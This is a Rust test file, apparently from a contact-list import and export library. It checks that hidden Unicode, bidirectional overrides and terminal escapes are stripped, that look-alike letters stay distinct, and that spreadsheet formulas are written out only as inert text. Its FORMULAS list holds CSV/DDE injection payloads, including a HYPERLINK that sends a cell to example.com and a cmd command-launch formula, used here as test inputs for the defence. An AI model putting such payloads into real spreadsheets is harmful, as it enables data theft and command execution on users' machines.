//! Letters that nobody sees, that look like others, or that a program obeys.

use crate::{inspected, made, rows, seen};
use folkmoot_domain::text::fold;
use folkmoot_lists::read::CellReason;
use folkmoot_lists::write::{Cell, ColumnKind, Format, OutColumn, writer};
use std::path::Path;

#[test]
fn what_nobody_sees_does_not_come_in_with_a_name() {
    for (what, cell, kept) in [
        ("text turned round", "Ada \u{202e}ecalevoL\u{202c}", "Ada ecalevoL"),
        ("isolates", "\u{2068}Ada\u{2069} \u{2067}Lovelace\u{2069}", "Ada Lovelace"),
        ("marks of direction", "\u{200f}Ada\u{200e} Lovelace\u{61c}", "Ada Lovelace"),
        ("zero-width spaces", "A\u{200b}da Love\u{200b}lace\u{feff}", "Ada Lovelace"),
        ("joiners between Latin letters", "Ad\u{200d}a Lo\u{200c}velace", "Ada Lovelace"),
        ("soft hyphens", "Ada Love\u{ad}lace", "Ada Lovelace"),
        ("invisible letters", "Ada\u{3164} Lovelace\u{e0041}", "Ada Lovelace"),
        ("commands to a terminal", "Ada\u{1b}[2J Lovelace\u{7}", "Ada [2J Lovelace"),
    ] {
        let file = made("a.csv", format!("Full name,E-mail\n\"{cell}\",a\u{200b}da@example.org\n"));
        let rows = rows(&file.path);
        let ada = seen(&rows[0]);
        assert_eq!(ada.name.full(), kept, "{what}");
        assert_eq!(ada.emails[0].1, "ada@example.org", "{what}: an address has none either");
    }
}

#[test]
fn a_name_of_nothing_is_nobody() {
    let file = made("a.csv", "Name,City\n\u{200b}\u{2060}\u{3164},Anytown\nAda,Anytown\n");
    let rows = rows(&file.path);
    assert!(rows[0].seen.is_err(), "a row of nobody is refused, with its line");
    assert_eq!((rows[0].line, seen(&rows[1]).name.given.as_str()), (2, "Ada"));
}

#[test]
fn letters_that_need_a_joiner_keep_it() {
    let file = made("a.csv", "Name,Notes\nمی\u{200c}نا,\u{202e}👩\u{200d}👧\u{2069} came along\u{7}\n");
    let rows = rows(&file.path);
    let person = seen(&rows[0]);
    assert_eq!(person.name.given, "می\u{200c}نا");
    assert_eq!(person.notes, ["👩\u{200d}👧 came along"], "a note loses only what turns the text behind it");
}

#[test]
fn composed_and_decomposed_names_are_the_same_when_they_are_compared() {
    let file = made("a.csv", "Name,Zip\nJosé Nuñez,26901\nJose\u{301} Nun\u{303}ez,26901\n");
    let rows = rows(&file.path);
    let (one, other) = (seen(&rows[0]), seen(&rows[1]));
    assert_ne!(one.name, other.name, "each is kept as it stands");
    assert_eq!(fold(&one.name.full()), fold(&other.name.full()));
}

#[test]
fn look_alikes_are_other_people() {
    let file = made("a.csv", "Name,Zip\nAda Lovelace,26901\n\u{410}da Lovelace,26901\n");
    let rows = rows(&file.path);
    assert_ne!(
        fold(&seen(&rows[0]).name.full()),
        fold(&seen(&rows[1]).name.full()),
        "a Cyrillic letter is no Latin one: looks alone merge nobody"
    );
}

#[test]
fn what_is_quoted_to_a_person_hides_nothing() {
    let file = made("a.csv", "Name,Birthday\nAda,\u{202e}1990\u{1b}[31m\nBob,1/2/1990\nCy,1/3/1990\n");
    let rows = rows(&file.path);
    let quoted = &rows[0].left_out[0];
    assert_eq!((quoted.reason, quoted.text.as_str()), (CellReason::NotADate, "\u{fffd}1990\u{fffd}[31m"));
    assert!(inspected(&file.path).columns[1].samples.iter().all(|sample| !sample.contains(['\u{202e}', '\u{1b}'])));
}

const FORMULAS: [&str; 12] = [
    "=HYPERLINK(\"http://example.com?\"&A1,\"Error\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
];

#[test]
fn formulas_come_in_as_text_and_never_go_out_as_formulas() {
    let folder = tempfile::tempdir().expect("a folder");
    let columns = ["Notes", "Name"].map(|title| OutColumn { title: title.into(), kind: ColumnKind::Text });
    for (format, name) in [(Format::Csv, "a.csv"), (Format::CsvForExcel, "b.csv"), (Format::Xlsx, "c.xlsx")] {
        let path = folder.path().join(name);
        let mut out = writer(&path, format, &columns).expect("begun");
        for formula in FORMULAS {
            out.row(&[Cell::Text(formula), Cell::Text("Ada")]).expect("written");
        }
        out.finish().expect("finished");
        if format != Format::Xlsx {
            for cell in csv_cells(&path) {
                let begins = cell.trim_start_matches('"').chars().next();
                assert!(!begins.is_some_and(|c| "=+-@\t\r\n＝＋－＠".contains(c)), "{name}: {cell:?} would run");
            }
        }
        let notes: Vec<_> = rows(&path).iter().map(|row| seen(row).notes.concat()).collect();
        let expected: Vec<_> = FORMULAS.iter().map(|formula| formula.trim().to_owned()).collect();
        assert_eq!(notes, expected, "{name}: what a person typed comes back");
    }
    let book = folder.path().join("c.xlsx");
    let mut archive = zip::ZipArchive::new(std::fs::File::open(book).expect("opens")).expect("an archive");
    let sheet = std::io::read_to_string(archive.by_name("xl/worksheets/sheet1.xml").expect("the sheet")).expect("read");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "a workbook of ours has no formula in it");
}

/// The cells as a program that knows nothing of us reads them.
fn csv_cells(path: &Path) -> Vec<String> {
    let text = std::fs::read_to_string(path).expect("read");
    let text = text.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|record| record.expect("well-formed").iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}
